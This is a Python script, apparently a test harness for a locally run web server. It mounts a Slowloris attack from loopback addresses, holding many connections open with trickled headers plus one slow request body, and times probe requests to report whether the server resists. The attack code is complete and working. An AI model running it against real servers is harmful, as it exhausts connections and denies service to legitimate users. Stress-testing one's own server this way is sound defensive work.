#!/usr/bin/env python3
"""slowloris.py - a slow-headers attack and a well-behaved client at once.

Usage: slowloris.py HOST PORT SECONDS PATH...

From 127.0.0.2 .. 127.0.0.6 (source address bound), keeps PER_ADDR
connections open each, sending a request line and then one header line
every TRICKLE seconds, never the blank line that ends the head; a
connection the server closes is opened again after a pause.  Meanwhile,
from 127.0.0.7, every PROBE_EVERY seconds, GETs each PATH (Connection:
close) and times the whole answer.  After SECONDS prints one JSON object:
  probes: [[path, status, seconds], ...] (status 0: no answer in time)
  opened, closed_by_server, open_at_end: attack connections
  max_life: the longest any attack connection stayed open (s; those open
            at the end count with their age then)
  held_5s: attack connections the server kept open for at least 5 s
  body_life, body_closed: how long one client on 127.0.0.8 that sends its
            head at once and then a request body at 10 bytes a second
            stayed connected, and whether the server closed it
"""
import asyncio
import json
import socket
import sys
import time

ATTACKERS = ["127.0.0.%d" % i for i in range(2, 7)]
PROBE_FROM = "127.0.0.7"
PER_ADDR = 60
TRICKLE = 2.0       # seconds between header lines
REOPEN_PAUSE = 1.0  # seconds before reopening a closed connection
PROBE_EVERY = 2.0
PROBE_TIMEOUT = 5.0
SLOW_BODY_FROM = "127.0.0.8"

stats = {"opened": 0, "closed_by_server": 0, "open_at_end": 0,
         "max_life": 0.0, "held_5s": 0, "connect_errors": 0}


async def open_from(src, host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.bind((src, 0))
    try:
        await asyncio.get_running_loop().sock_connect(sock, (host, port))
    except OSError:
        sock.close()
        raise
    return await asyncio.open_connection(sock=sock)


def note_life(life):
    stats["max_life"] = max(stats["max_life"], life)
    if life >= 5.0:
        stats["held_5s"] += 1


async def slow_client(src, host, port, n, end):
    while time.monotonic() < end:
        try:
            reader, writer = await open_from(src, host, port)
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(REOPEN_PAUSE)
            continue
        stats["opened"] += 1
        t0 = time.monotonic()
        eof = asyncio.ensure_future(reader.read(1))
        try:
            writer.write(b"GET /faq/ HTTP/1.1\r\nHost: x\r\n")
            i = 0
            while time.monotonic() < end:
                done, _ = await asyncio.wait(
                    [eof], timeout=min(TRICKLE, max(0.0, end - time.monotonic())))
                if done:
                    break
                writer.write(b"X-Slow-%d-%d: %d\r\n" % (n, i, i))
                i += 1
        except (ConnectionError, OSError):
            pass
        life = time.monotonic() - t0
        if eof.done():
            eof.exception()  # a reset is a close too
            stats["closed_by_server"] += 1
            note_life(life)
            writer.close()
            await asyncio.sleep(REOPEN_PAUSE)
        else:
            eof.cancel()
            stats["open_at_end"] += 1
            note_life(life)
            writer.close()
            return


async def slow_body(host, port, end):
    reader, writer = await open_from(SLOW_BODY_FROM, host, port)
    t0 = time.monotonic()
    writer.write(b"POST /healthz HTTP/1.1\r\nHost: x\r\nContent-Type: "
                 b"application/x-www-form-urlencoded\r\n"
                 b"Content-Length: 100000\r\n\r\n")
    eof = asyncio.ensure_future(reader.read())
    try:
        while time.monotonic() < end:
            writer.write(b"a=aaaaaaa&")
            done, _ = await asyncio.wait([eof], timeout=1.0)
            if done:
                eof.exception()
                break
    except (ConnectionError, OSError):
        pass
    stats["body_life"] = round(time.monotonic() - t0, 1)
    stats["body_closed"] = eof.done()
    if not eof.done():
        eof.cancel()
    writer.close()


async def probe(host, port, path):
    t0 = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(
            open_from(PROBE_FROM, host, port), PROBE_TIMEOUT)
        writer.write(("GET %s HTTP/1.1\r\nHost: %s:%d\r\nConnection: close"
                      "\r\n\r\n" % (path, host, port)).encode())
        data = await asyncio.wait_for(reader.read(), PROBE_TIMEOUT)
        writer.close()
        status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
    except (OSError, asyncio.TimeoutError, ValueError, IndexError):
        status = 0
    return [path, status, round(time.monotonic() - t0, 3)]


async def main():
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    paths = sys.argv[4:]
    end = time.monotonic() + seconds
    tasks = [asyncio.ensure_future(slow_client(src, host, port, n, end))
             for src in ATTACKERS for n in range(PER_ADDR)]
    tasks.append(asyncio.ensure_future(slow_body(host, port, end)))
    probes = []
    await asyncio.sleep(3.0)  # let the attack take its slots first
    while time.monotonic() < end:
        for path in paths:
            probes.append(await probe(host, port, path))
        await asyncio.sleep(PROBE_EVERY)
    await asyncio.gather(*tasks)
    stats["max_life"] = round(stats["max_life"], 1)
    print(json.dumps(dict(stats, probes=probes)))


asyncio.run(main())
